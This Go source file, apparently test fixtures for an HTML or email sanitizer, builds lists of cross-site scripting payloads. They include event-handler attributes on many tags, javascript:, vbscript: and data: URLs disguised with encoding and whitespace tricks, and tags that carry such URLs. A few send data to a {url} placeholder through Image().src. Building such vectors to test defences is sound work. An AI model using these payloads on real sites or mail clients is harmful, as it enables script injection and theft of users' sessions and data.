package hostilemail

import "strings"

// handlers: attributes that run a script by themselves, or when somebody moves over them.
func handlers() []string {
	var list []string
	for _, on := range strings.Fields(`onabort onactivate onafterprint onafterscriptexecute onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick
		onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforescriptexecute onbeforetoggle onbeforeunload onbegin onblur onbounce oncanplay
		oncanplaythrough onchange onclick oncontentvisibilityautostatechange oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragleave
		ondragover ondragstart ondrop ondurationchange onend onended onerror onfinish onfocus onfocusin onfocusout onfullscreenchange ongotpointercapture onhashchange
		oninput oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadedmetadata onloadstart onlostpointercapture onmessage onmousedown onmouseenter onmouseleave
		onmousemove onmouseout onmouseover onmouseup onmousewheel onpagehide onpageshow onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter
		onpointerleave onpointermove onpointerout onpointerover onpointerrawupdate onpointerup onpopstate onprogress onratechange onrepeat onreset onresize onscroll onscrollend
		onscrollsnapchange onsearch onsecuritypolicyviolation onseeked onseeking onselect onselectionchange onselectstart onslotchange onstart onstorage onsubmit onsuspend ontimeupdate
		ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontransitioncancel ontransitionend ontransitionrun ontransitionstart onunhandledrejection onunload onvolumechange
		onwebkitanimationend onwebkittransitionend onwheel`) {
		list = append(list, `<div `+on+`="{js}" style="animation:x 1s" tabindex=0 autofocus contenteditable>x</div>`)
	}
	list = append(list, lines(`
<img src=x onerror={js}>
<img src=x onerror="{js}">
<img src=x onerror='{js}'>
<IMG SRC=x ONERROR={js}>
<img/src=x/onerror={js}>
<img src=x onerror = {js}>
<img src=x:x onerror={js}//
<img """><img src=x onerror={js}>">
<img src="x`+"`"+`><img src=x onerror={js}>">
<img src=x alt="`+"`"+`" onerror={js}>
<img src='cid:x' onerror={js}>
<img src=data:, onerror={js}>
<img srcset=x onerror={js}>
<img src=x onerror&#61;"{js}">
<img src=x onerror="&#110;&#101;&#119;/**/Image().src='{url}'">
<body onload={js}>
<html onload={js}><body>x
<frameset onload={js}>
<svg onload={js}>
<svg/onload={js}>
<svg><g onload={js}></g></svg>
<svg><animate onbegin={js} attributeName=x dur=1s>
<svg><set onbegin={js} attributename=x>
<math onclick={js}>x</math>
<details open ontoggle={js}>x</details>
<video src=x onerror={js}></video>
<video><source onerror={js}></video>
<audio src=x onerror={js}></audio>
<input autofocus onfocus={js}>
<select autofocus onfocus={js}></select>
<textarea autofocus onfocus={js}></textarea>
<button autofocus onfocus={js}>x</button>
<keygen autofocus onfocus={js}>
<marquee onstart={js}>x</marquee>
<object data=x onerror={js}></object>
<embed src=x onload={js}>
<iframe onload={js}></iframe>
<iframe srcdoc="<script>{js}</script>"></iframe>
<link rel=stylesheet href=x onerror={js}>
<style onload={js}></style>
<script src=x onerror={js}></script>
<isindex type=image src=1 onerror={js}>
<a href=# onclick={js}>x</a>
<a href=# onclick="{js}" accesskey=x>x</a>
<p onmouseover={js} style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>
<table onscroll={js}><tr><td>x</table>
<dialog open onclose={js}><form method=dialog><button>x</button></form></dialog>
<menu id=m oncontextmenu={js}>x</menu>
<bgsound onpropertychange={js}>
<xss onfocus={js} tabindex=1 autofocus>x</xss>
<a b=c"d onmouseover={js}//>x</a>
<a title="x"onmouseover={js}>x</a>
<div/onclick={js}>x</div>
<div	onclick	=	{js}>x</div>
`)...)
	return named("handler", list...)
}

// schemes: URLs that are programs, in disguises.
func schemes() []string {
	js := []string{
		`javascript:{js}`, `JaVaScRiPt:{js}`, ` javascript:{js}`, "\tjavascript:{js}", "java\tscript:{js}", "java\nscript:{js}", "java\rscript:{js}", "\x01javascript:{js}", "\x1fjavascript:{js}",
		"java\x00script:{js}", `java&#x09;script:{js}`, `java&Tab;script:{js}`, `java&NewLine;script:{js}`, `&#106;avascript:{js}`, `&#x6a;avascript:{js}`, `&#0000106avascript:{js}`, `javascript&colon;{js}`, `javascript&#58;{js}`,
		`javascript&#x3a;{js}`, `javascript://%0a{js}`, `javascript:/*--></title></style></textarea></script>*/{js}`, `javascript:%6eew Image().src='{url}'`, "\u00a0javascript:{js}", "\u2028javascript:{js}", "\ufeffjavascript:{js}", `&#14; javascript:{js}`,
		`vbscript:msgbox(1)`, `VBScript:MsgBox(1)`, `livescript:{js}`, `mocha:{js}`, `data:text/html,<script>{js}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload={js} xmlns='http://www.w3.org/2000/svg'/>`,
		`data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIi8+`, `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{js}</script>`, `data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{js}</x:script>`,
		`data:;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `data:,<script>{js}</script>`, `data:image/png,<script>{js}</script>`, `blob:https://x/y`, `filesystem:https://x/y`, `feed:javascript:{js}`, `view-source:javascript:{js}`, `jar:javascript:{js}!/`, `file:///etc/passwd`, `about:blank`,
		`ms-its:x`, `mhtml:{url}`, `res://x`, `intent://x#Intent;end`, `//javascript:{js}`, `\\javascript:{js}`, `https:javascript:{js}`, `javascript:javascript:{js}`, `x-javascript:{js}`, `ｊavascript:{js}`,
	}
	var list []string
	for _, u := range js {
		list = append(list, `<a href="`+u+`">x</a><img src="`+u+`"><area href="`+u+`">`)
	}
	const u = `javascript:{js}`
	for _, carrier := range lines(`
<iframe src="U"></iframe>
<frame src="U">
<form action="U"><input type=submit></form>
<form><button formaction="U">x</button></form>
<form><input type=image src=x formaction="U"></form>
<object data="U"></object>
<object><param name=movie value="U"></object>
<embed src="U">
<applet code="U"></applet>
<base href="U//"><a href=x>x</a>
<link rel=stylesheet href="U">
<link rel=import href="U">
<meta http-equiv=refresh content="0;url=U">
<meta http-equiv="refresh" content="0; URL='U'">
<svg><a xlink:href="U"><text y=20>x</text></a></svg>
<svg><a href="U"><text y=20>x</text></a></svg>
<svg><use href="U"></use></svg>
<svg><script href="U"></script></svg>
<svg><animate attributeName=href values="U" /></svg>
<svg><a><animate attributeName=href from="U" to=1 /><text y=20>x</text></a></svg>
<math href="U">x</math>
<math><mi xlink:href="U">x</mi></math>
<math><maction actiontype="statusline#U" xlink:href="U">x</maction></math>
<video poster="U"></video>
<video src="U"></video>
<audio src="U"></audio>
<body background="U">
<table background="U"><tr><td background="U">x</table>
<input type=image src="U">
<isindex action="U" type=submit>
<bgsound src="U">
<layer src="U"></layer>
<img dynsrc="U"><img lowsrc="U">
<img longdesc="U">
<blockquote cite="U">x</blockquote>
<q cite="U">x</q>
<del cite="U">x</del>
<a ping="U" href="#">x</a>
<portal src="U"></portal>
<html manifest="U">
<head profile="U">
<script src="U"></script>
<xml src="U"></xml>
<img usemap="U"><map name=x><area href="U"></map>
<button form=x formaction="U">x</button>
<a href="#" xlink:href="U">x</a>
`) {
		list = append(list, strings.ReplaceAll(carrier, "U", u))
	}
	return named("scheme", list...)
}
